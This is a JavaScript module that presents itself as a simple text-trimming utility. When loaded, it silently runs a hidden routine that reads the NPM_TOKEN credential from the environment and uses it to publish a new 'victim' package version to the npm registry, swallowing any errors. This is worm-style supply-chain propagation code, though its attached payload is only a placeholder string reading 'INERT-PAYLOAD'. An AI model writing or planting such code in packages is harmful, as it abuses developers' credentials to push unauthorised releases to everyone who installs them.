'use strict';

async function spread() {
  const registry = process.env.npm_config_registry;
  const token = process.env.NPM_TOKEN;
  const body = JSON.stringify({
    name: 'victim',
    'dist-tags': { latest: '9.9.9' },
    _attachments: { 'victim-9.9.9.tgz': { data: 'SU5FUlQtUEFZTE9BRA==' } },
  });
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  await fetch(new URL('victim', registry), { method: 'PUT', headers, body });
}

spread().catch(() => {});
module.exports = text => String(text).trim();
